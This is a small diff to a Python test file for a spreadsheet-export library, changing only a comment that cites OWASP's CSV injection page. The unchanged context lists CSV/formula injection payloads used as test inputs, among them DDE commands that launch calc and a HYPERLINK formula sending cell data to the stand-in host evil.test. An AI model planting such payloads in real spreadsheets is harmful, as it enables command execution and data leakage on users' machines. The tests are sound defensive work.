@@ -9,7 +9,7 @@ import pytest
 
 from tongban.kit.spreadsheets import LONGEST, csv_lines, defused, streamed, xlsx_file
 
-# https://owasp.org/www-community/attacks/CSV_Injection and the payloads it names
+# OWASP "CSV Injection", and the payloads it names
 ATTACKS = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test?x="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!D2",
     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\0=1+1",
